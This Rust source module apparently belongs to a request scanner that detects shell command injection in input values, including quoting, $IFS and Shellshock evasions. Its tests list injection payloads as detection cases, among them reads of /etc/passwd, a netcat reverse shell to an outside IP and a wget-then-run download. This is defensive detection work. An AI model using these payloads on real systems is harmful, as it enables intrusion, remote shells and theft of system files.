//! Would this run a command, where a value lands in the line of a shell?
//!
//! Anchored at what ends or begins a command: separators, substitutions, line ends, the value's beginning. What stands
//! behind is read as a shell would, quotes and empty variables taken out, and counts when it is a command with what
//! commands have: options, paths, the next separator.

use super::finding::{Class, Look, Place, Report};
use super::scan::{has, in_word};
use super::text::{any, at, begins, find, from, is_space, part, skip_space, skip_space_back};
use super::words::{self, COMMAND, COMMAND_WEAK, COMMAND_WINDOWS, Kinds};

pub(super) fn look(look: &Look<'_>, report: &mut Report) {
    let (text, seen) = (look.text, look.seen);
    let commands = COMMAND | COMMAND_WEAK | COMMAND_WINDOWS;
    if seen.words(commands)
        || seen.bytes(has::SLASH) && seen.bytes(has::SEMICOLON | has::PIPE | has::TICK | has::QUESTION)
        || seen.bytes(has::DOLLAR | has::TICK | has::PIPE | has::BACKSLASH)
    {
        first(text, look.place, report);
        if seen
            .bytes(has::SEMICOLON | has::PIPE | has::AMPERSAND | has::TICK | has::LINE | has::DOLLAR | has::BACKSLASH)
        {
            separated(text, report);
        }
    }
    if seen.bytes(has::PAREN) && seen.bytes(has::BRACE) {
        function(text, report);
    }
}

/// A command as a shell would read it.
struct Command {
    kinds: Kinds,
    /// It was called by its path.
    path: bool,
    /// Quotes, escapes or variables were taken out of its name.
    hidden: bool,
    /// It may stand alone: what it tells is worth it.
    telling: bool,
    /// The first byte behind its name.
    end: usize,
    echo: bool,
    /// In lower case, as systems that know ticks have it.
    lower: bool,
}

/// Commands that need no argument to tell something.
const TELLING: &[&[u8]] = &[
    b"id",
    b"ls",
    b"pwd",
    b"ps",
    b"dir",
    b"env",
    b"w",
    b"who",
    b"set",
    b"ver",
    b"whoami",
    b"ifconfig",
    b"ipconfig",
    b"uname",
    b"netstat",
    b"systeminfo",
    b"tasklist",
    b"hostname",
    b"printenv",
    b"lscpu",
    b"lsblk",
    b"dmesg",
    b"arp",
    b"df",
    b"sh",
    b"bash",
    b"reboot",
    b"uptime",
    b"eject",
    b"lsof",
];

/// Longest name of a command, without its directories.
const NAME_BYTES_MAX: usize = 48;

/// Reads a command's name at a position. What separates commands is in no name, so that no byte is read for two of them.
fn command(text: &[u8], position: usize) -> Option<Command> {
    let mut name = [0_u8; NAME_BYTES_MAX];
    let mut length = 0;
    let mut next = position;
    let mut hidden = false;
    let mut letters = 0;
    // Directories that were dropped to make room: `/bin/./././…/cat`.
    let (mut far, mut far_bin) = (false, false);
    loop {
        let byte = at(text, next);
        match byte {
            b'\'' | b'"' => {
                // `c'a't`; one quote alone ends the value's own string.
                let quoted = letters > 0 && (in_word(at(text, next + 1)) || at(text, next + 1) == byte);
                if !quoted {
                    break;
                }
                hidden = true;
                next += 1;
                continue;
            }
            b'\\'
                if in_word(at(text, next + 1)) && letters > 0 && !matches!(at(text, next + 1), b'n' | b'r' | b't') =>
            {
                hidden = true;
                next += 1;
                continue;
            }
            b'$' => {
                // `$@`, `$u`, `${x}`: empty; `$IFS` ends the name.
                let rest = from(text, next + 1);
                if begins(rest, b"IFS") || begins(rest, b"{IFS") || letters == 0 {
                    break;
                }
                let skip = match rest.first() {
                    Some(b'@' | b'*' | b'1'..=b'9') => 2,
                    Some(b'{') => {
                        // No further than to what separates commands, where the next one begins to read.
                        let ends = |byte: &u8| matches!(byte, b'}' | b';' | b'|' | b'&' | b'`') || is_space(*byte);
                        let end = rest.iter().position(ends).filter(|end| at(rest, *end) == b'}')?;
                        2 + end
                    }
                    Some(_) => 1 + rest.iter().take_while(|byte| in_word(**byte)).count(),
                    None => break,
                };
                hidden = true;
                next += skip;
                continue;
            }
            b'^' if letters > 0 => {
                hidden = true;
                next += 1;
                continue;
            }
            _ if in_word(byte) || matches!(byte, b'/' | b'.' | b'-' | b'?' | b'*' | b'~') => {
                letters += 1;
                if length == NAME_BYTES_MAX {
                    let slash = name.iter().rposition(|byte| *byte == b'/')?;
                    far = true;
                    far_bin |= find(part(&name, 0, slash + 1), b"bin/").is_some();
                    name.copy_within(slash.., 0);
                    length -= slash;
                    // One slash and a word that fills all the room.
                    if slash == 0 {
                        return None;
                    }
                }
                *name.get_mut(length)? = byte;
                length += 1;
                next += 1;
            }
            _ => break,
        }
    }
    let name = part(&name, 0, length);
    let slash = name.iter().rposition(|byte| *byte == b'/');
    let base = slash.map_or(name, |slash| from(name, slash + 1));
    let wild = memchr::memchr2(b'?', b'*', name).is_some();
    let path = far
        || slash.is_some() && name.iter().filter(|byte| **byte == b'/').count() >= 2
        || name.starts_with(b"/bin/")
        || name.starts_with(b"bin/")
        || name.starts_with(b"./");
    let bare = base.strip_suffix(b".exe").unwrap_or(base);
    let kinds = words::kinds(bare);
    let lower = bare.iter().all(|byte| !byte.is_ascii_uppercase());
    let upper_windows = kinds & COMMAND_WINDOWS != 0;
    let known = kinds & (COMMAND | COMMAND_WEAK) != 0 && lower || upper_windows;
    let bin = far_bin || any(part(name, 0, length), &[b"bin/"]) || name.starts_with(b"/???/");
    // A path whose last part is a word that is a command, too, is an address of a page.
    let called = slash.is_none() || bin || name.starts_with(b"./") && kinds & COMMAND != 0;
    if !(known && called) && !(bin && path && (wild || !base.is_empty())) {
        return None;
    }
    let telling = TELLING.iter().any(|known| bare.eq_ignore_ascii_case(known));
    let path = path && (bin || known);
    let echo = bare.eq_ignore_ascii_case(b"echo")
        || bare.eq_ignore_ascii_case(b"type")
        || bare.eq_ignore_ascii_case(b"printf");
    Some(Command { kinds: if known { kinds } else { COMMAND }, path, hidden, telling, end: next, echo, lower })
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Arguments {
    /// The next separator, a closing bracket or the end.
    None,
    /// An option.
    Option,
    /// A path, an address, a number, a variable, a redirection.
    Telling,
    /// Words.
    Prose,
    /// What no command is followed by.
    Wrong,
}

/// What follows a command's name.
fn arguments(text: &[u8], end: usize) -> Arguments {
    let mut next = end;
    if begins(from(text, next), b"$IFS")
        || begins(from(text, next), b"${IFS")
        || matches!(at(text, next), b'<' | b'>')
            && matches!(at(text, next + 1), b' ' | b'/' | b'&' | b'(' | b'>' | b'<')
    {
        return Arguments::Telling;
    }
    // `{cat,/etc/passwd}`
    if at(text, next) == b',' && matches!(at(text, next + 1), b'/' | b'-') {
        return Arguments::Telling;
    }
    let spaced = is_space(at(text, next)) || at(text, next) == b'+';
    while is_space(at(text, next)) && !matches!(at(text, next), b'\n' | b'\r') || at(text, next) == b'+' {
        next += 1;
    }
    match at(text, next) {
        0 | b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'#' | b'"' | b'\'' | b'}' if !spaced => Arguments::None,
        b'\\' if !spaced => Arguments::None,
        0 | b';' | b'|' | b'\n' | b'\r' | b'`' | b')' | b'#' | b'}' => Arguments::None,
        b'&' if at(text, next + 1) == b'&' || is_space(at(text, next + 1)) || at(text, next + 1) == 0 => {
            Arguments::None
        }
        _ if !spaced => Arguments::Wrong,
        b'-' if at(text, next + 1).is_ascii_alphanumeric() || at(text, next + 1) == b'-' => Arguments::Option,
        b'/' | b'~' | b'*' | b'$' | b'<' | b'>' | b'\\' | b'%' => Arguments::Telling,
        b'.' if matches!(at(text, next + 1), b'/' | b'.') => Arguments::Telling,
        b'"' | b'\'' => Arguments::Telling,
        b'0'..=b'9' => {
            let rest = part(text, next, next + 24);
            let digits = rest.iter().take_while(|byte| byte.is_ascii_digit() || **byte == b'.').count();
            match at(rest, digits) {
                byte if is_space(byte) => {
                    let behind = at(text, skip_space(text, next + digits));
                    if behind == 0 || !behind.is_ascii_alphanumeric() { Arguments::Telling } else { Arguments::Prose }
                }
                0 | b';' | b'|' | b'&' | b')' | b'`' | b'"' | b'\'' | b'#' | b'\n' => Arguments::Telling,
                _ => Arguments::Prose,
            }
        }
        byte if byte.is_ascii_alphabetic() => {
            let rest = part(text, next, next + 64);
            let word = rest
                .iter()
                .take_while(|byte| !is_space(**byte) && !matches!(byte, b';' | b'|' | b'&' | b'`' | b')'))
                .count();
            let word = part(rest, 0, word);
            let address = find(word, b"://").is_some() || word.len() > 2 && at(word, 1) == b':' && at(word, 2) == b'\\';
            let code = memchr::memchr3(b'$', b'`', b'>', word).is_some();
            let file = word.contains(&b'/') && word.len() > 3;
            if address || code || file { Arguments::Telling } else { Arguments::Prose }
        }
        _ => Arguments::Wrong,
    }
}

/// A value that is a command from its first byte on.
fn first(text: &[u8], place: Place, report: &mut Report) {
    let start = text.iter().take(8).take_while(|byte| is_space(**byte) || matches!(byte, b'"' | b'\'')).count();
    let Some(command) = command(text, start) else { return };
    let arguments = arguments(text, command.end);
    let values = !matches!(place, Place::QueryName | Place::FormName | Place::JsonName | Place::CookieName);
    let strong =
        command.kinds & COMMAND != 0 || command.kinds & COMMAND_WINDOWS != 0 && command.kinds & COMMAND_WEAK == 0;
    let tail = part(text, command.end, command.end + 160);
    let path = any(
        tail,
        &[
            b" /etc", b" /var", b" /tmp", b" /home", b" /bin", b" /usr", b" /proc", b" /root", b" /opt", b" c:\\",
            b" \\\\", b"+/etc", b" /dev/",
        ],
    ) || find(tail, b"://").is_some();
    let alone = at(text, command.end) == 0 || arguments == Arguments::None;
    let windows = command.kinds & COMMAND_WINDOWS != 0
        && find(tail, b" /").is_some_and(|slash| {
            at(tail, slash + 2).is_ascii_alphabetic() && !at(tail, slash + 4).is_ascii_alphabetic()
                || begins(from(tail, slash), b" /all")
        });
    let chained =
        memchr::memchr3(b'|', b';', b'`', tail).is_some() || find(tail, b"$(").is_some() || find(tail, b"&&").is_some();
    let score = match arguments {
        Arguments::None
            if alone
                && values
                && [&b"whoami"[..], b"ifconfig", b"ipconfig", b"netstat"].contains(&part(text, start, command.end)) =>
        {
            5
        }
        Arguments::None if command.path && command.telling => 5,
        Arguments::Option | Arguments::Telling if path || windows => 5,
        Arguments::Option | Arguments::Telling if strong && (chained || matches!(arguments, Arguments::Telling)) => {
            4 + u8::from(chained || command.path)
        }
        Arguments::Option if chained || any(tail, &[b" -e ", b"127.0.0.1"]) => 5,
        Arguments::Option if strong => 3,
        Arguments::Telling if chained && !command.echo => 4,
        Arguments::Prose if windows => 5,
        _ => 0,
    };
    let score = score + u8::from(command.hidden && score > 0);
    report.add(Class::Command, score, (start, command.end + 24), "a command, as the whole value");
}

/// Commands behind separators and in substitutions.
fn separated(text: &[u8], report: &mut Report) {
    let mut position = 0;
    while let Some(byte) = text.get(position).copied() {
        let (mark, length) = match (byte, at(text, position + 1)) {
            (b';', _) => (Mark::Separator, 1),
            (b'|', b'|') | (b'&', b'&') => (Mark::Separator, 2),
            (b'|', _) => (Mark::Pipe, 1),
            (b'&', _) => (Mark::Ampersand, 1),
            // Of a run of line ends the last counts.
            (b'\n' | b'\r', b'\n' | b'\r') => {
                position += 1;
                continue;
            }
            (b'\n' | b'\r', _) => (Mark::Line, 1),
            (b'\\', b'n' | b'r') => (Mark::Escaped, 2),
            // A fence around code, with the name of its language.
            (b'`', b'`') if is_fence(text, position) => {
                position += 3;
                continue;
            }
            (b'`', _) => (Mark::Tick, 1),
            (b'$', b'(') => (Mark::Substitution, 2),
            (b'<' | b'>', b'(') => (Mark::Substitution, 2),
            (b'$', b'{' | b'I') => {
                if begins(from(text, position + 1), b"IFS") || begins(from(text, position + 1), b"{IFS") {
                    report.add(
                        Class::Command,
                        5,
                        (position, position + 12),
                        "a space that is written as a variable of the shell",
                    );
                }
                position += 1;
                continue;
            }
            _ => {
                position += 1;
                continue;
            }
        };
        let start = position;
        position += length;
        let reached = behind(text, start, position, mark, report);
        // What line ends are between was looked at from the first of them on.
        if mark == Mark::Line {
            position = reached.max(position);
        }
    }
}

/// Whether three ticks, the name of a shell and the end of the line stand here: what follows are lines, and read as such.
fn is_fence(text: &[u8], position: usize) -> bool {
    let begins_line = position == 0 || at(text, position - 1) == b'\n';
    let rest = from(text, position + 3);
    let name = rest.iter().take_while(|byte| byte.is_ascii_lowercase()).count();
    begins_line
        && at(text, position + 2) == b'`'
        && [&b"sh"[..], b"bash", b"zsh", b"shell", b"console"].contains(&part(rest, 0, name))
        && matches!(at(rest, name), b'\n' | b'\r')
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Mark {
    Separator,
    Pipe,
    Ampersand,
    Line,
    /// `\n` as two characters, which many programs make a line end of.
    Escaped,
    Tick,
    Substitution,
}

/// What stands behind a separator that begins at `start` and ends at `next`. Returns where what could be a command begins.
fn behind(text: &[u8], start: usize, next: usize, mark: Mark, report: &mut Report) -> usize {
    let position = {
        let mut position = skip_space(text, next);
        while matches!(at(text, position), b'+' | b'(' | b'{' | b'!') {
            position = skip_space(text, position + 1);
        }
        position
    };
    if mark == Mark::Substitution {
        // `$(</etc/passwd)`, `$((1+2))`
        if at(text, position) == b'<' && at(text, skip_space(text, position + 1)) == b'/' {
            report.add(Class::Command, 6, (start, position + 24), "a shell substitution that reads a file");
        }
        if at(text, next) == b'('
            && memchr::memmem::find(part(text, next, next + 64), b"))").is_some()
            && at(text, next + 1).is_ascii_digit()
        {
            report.add(Class::Command, 4, (start, position + 16), "arithmetic of a shell");
        }
    }
    let Some(command) = command(text, position) else { return position };
    // A name of a parameter or an entity, not a command.
    if matches!(at(text, command.end), b'=' | b':' | b'[') {
        return position;
    }
    let arguments = arguments(text, command.end);
    if arguments == Arguments::Wrong {
        return position;
    }
    let strong = command.kinds & COMMAND != 0
        || command.kinds & COMMAND_WINDOWS != 0 && command.kinds & COMMAND_WEAK == 0 && arguments != Arguments::Prose;
    let strong = strong || command.path || command.hidden;
    let opens = skip_space_back(text, start) == 0;
    let base = match (mark, arguments) {
        // `$(time)` is a script's, too.
        (Mark::Substitution, Arguments::None) if !(strong || command.telling) => 3,
        (Mark::Substitution, Arguments::Prose) => 5,
        (Mark::Substitution, _) => 6,
        // A word in ticks is how people write a name of code. What tells nothing alone harms nobody alone.
        (Mark::Tick, Arguments::None) if !(command.telling && command.lower || command.path || command.hidden) => 3,
        (Mark::Tick, _) => {
            let sure = opens
                || start < 3
                || matches!(at(text, start - 1), b'(' | b'=' | b';' | b'|' | b'&' | b'"' | b'\'' | b'.');
            let closed = memchr::memchr(b'`', part(text, position, position + 256)).is_some();
            match (sure && closed, arguments) {
                (true, Arguments::Prose) if !strong && !command.echo => 3,
                (true, _) => 6,
                (false, _) if closed && (strong || arguments != Arguments::Prose && arguments != Arguments::None) => 3,
                _ => 0,
            }
        }
        (Mark::Line | Mark::Escaped, Arguments::None)
            if command.telling && appended(text, start, position, &command) =>
        {
            5
        }
        (_, Arguments::None) if command.telling => {
            5 - u8::from(mark == Mark::Ampersand && !opens && !is_space(at(text, start.wrapping_sub(1))))
                - 2 * u8::from(matches!(mark, Mark::Line) && !opens && !command.path)
                - u8::from(mark == Mark::Escaped && !opens)
        }
        (_, Arguments::None) => 2 * u8::from(strong) + u8::from(command.path) * 3,
        (Mark::Line, Arguments::Option | Arguments::Telling) if command.echo => 3,
        // Lines of prose and of code begin with words that are commands, too.
        (Mark::Line | Mark::Escaped, Arguments::Telling) if !strong => {
            3 + 2 * u8::from(matches!(at(text, skip_space(text, command.end)), b'/' | b'~'))
        }
        (_, Arguments::Option | Arguments::Telling) => 5,
        (_, Arguments::Prose) if command.path || command.hidden => 5,
        (_, Arguments::Prose) => {
            // `& net view`, `; echo x > y`
            let tail = part(text, command.end, command.end + 96);
            let net = begins(from(text, position), b"net ")
                && any(
                    part(tail, 0, 16),
                    &[b"view", b"user", b"localgroup", b"share", b"use ", b"start", b"accounts", b"config"],
                );
            // A line of prose has a word in ticks, or a table's bar.
            let lined = matches!(mark, Mark::Line | Mark::Escaped);
            let redirected = any(tail, &[b"$(", b">/", b"> /", b">>"])
                || !lined && memchr::memchr3(b'>', b'|', b'`', tail).is_some();
            let windows = command.kinds & COMMAND_WINDOWS != 0 && any(tail, &[b" c:\\", b":\\"]);
            let known = net || windows || redirected && (strong || command.echo);
            (5 * u8::from(known)).max(3 * u8::from(strong))
        }
        (_, Arguments::Wrong) => 0,
    };
    let score = base + u8::from(base > 0 && (command.path || command.hidden));
    report.add(Class::Command, score, (start, command.end + 24), "a command behind what ends another");
    position
}

/// Longest word that a command is appended to, in a value that is nothing else.
const WORD_BYTES_MAX: usize = 64;

/// Names of commands that stand in no list of fields and no sentence.
const UNMISTAKABLE: &[&[u8]] = &[
    b"whoami",
    b"ifconfig",
    b"ipconfig",
    b"uname",
    b"netstat",
    b"systeminfo",
    b"tasklist",
    b"printenv",
    b"lscpu",
    b"lsblk",
    b"dmesg",
    b"lsof",
];

/// Whether a value is one word, the end of its line, and a command: `127.0.0.1\nid`. A list of fields has names in its lines,
/// and posts that tell which commands to type have sentences.
fn appended(text: &[u8], start: usize, position: usize, command: &Command) -> bool {
    let word = part(text, 0, start).trim_ascii();
    let rest = part(text, command.end, text.len()).trim_ascii();
    let named = UNMISTAKABLE.iter().any(|known| part(text, position, command.end).eq_ignore_ascii_case(known));
    let letters = word.iter().all(|byte| byte.is_ascii_alphabetic() || matches!(byte, b'_' | b'-'));
    word.len() <= WORD_BYTES_MAX
        && !word.iter().any(|byte| is_space(*byte) || matches!(byte, b'+' | b','))
        && (named || !letters || word.len() < 3)
        && matches!(rest.first(), None | Some(b';' | b'|' | b'&' | b'#'))
}

/// `() { :;}; …`: a function that old shells read from a variable and run on (CVE-2014-6271).
fn function(text: &[u8], report: &mut Report) {
    let start = text.iter().take(8).take_while(|byte| is_space(**byte) || matches!(byte, b'"' | b'\'')).count();
    if at(text, start) != b'(' {
        return;
    }
    let close = skip_space(text, start + 1);
    let brace = skip_space(text, close + 1);
    if at(text, close) == b')' && at(text, brace) == b'{' {
        report.add(Class::Command, 7, (start, brace + 40), "a function of the shell as a value");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::semantic::in_query;

    fn score(text: &str) -> u8 {
        let report = in_query(text, look);
        report.score(Class::Command)
    }

    #[test]
    fn commands_score() {
        for text in [
            "; id",
            "|id",
            "a;id;",
            "127.0.0.1 && whoami",
            "127.0.0.1|cat /etc/passwd",
            "; cat /etc/passwd",
            ";c''at /etc/passwd",
            ";c\\at /etc/passwd",
            ";cat$IFS/etc/passwd",
            ";/bin/cat x",
            "$(id)",
            "`id`",
            "x`whoami`",
            "$(</etc/passwd)",
            "| ping -n 3 127.0.0.1",
            "& ipconfig /all",
            "& net user",
            "| dir D:\\",
            "&& nc -e /bin/sh 10.0.0.1 4444",
            "() { :;}; /bin/bash -c id",
            "cat /etc/passwd",
            "ls -la /etc",
            "wget http://x/y -O /tmp/y;sh /tmp/y",
            "\nid\n",
            ";sleep 5",
            "|| sleep 5",
            "; echo $(id)",
            "a;uname -a",
            "127.0.0.1\nid",
            "x\r\nls",
            "example.org\nwhoami\n",
            "report\nuname",
            "7\\nid",
            ";/???/??t /etc/passwd",
            "$;/usr/bin/id",
            "ifconfig",
        ] {
            assert!(score(text) >= 5, "{text}: {}", score(text));
        }
    }

    #[test]
    fn prose_and_lists_do_not() {
        for text in [
            "cats & dogs",
            "find me; more or less",
            "java;php;python",
            "LC & NC - Boys038-XL.jpg",
            "echo in the mirror",
            "zsh is the best!",
            "ls 300 lexus",
            "salt; head of lettuce; cut carrots",
            "a & b; c | d",
            "time; date; place",
            "id=5&ls=1&cat=3",
            "The cat; the dog",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0)",
            "text/html;q=0.9,*/*;q=0.8",
            "use `code` for that",
            "which python | which perl?",
            "more | less",
            "first line\nsort of\nfind it",
            "cost: $5 (five)",
            "function() { return 1; }",
            "echo chamber; echo location",
            "make; model; type",
            "name\nid",
            "id\nname\nenv",
            "first, last\nid",
            "Which one is it?\nls",
            "To see who you are, type\nwhoami\nand then return",
        ] {
            assert!(score(text) < 5, "{text}: {}", score(text));
        }
    }
}
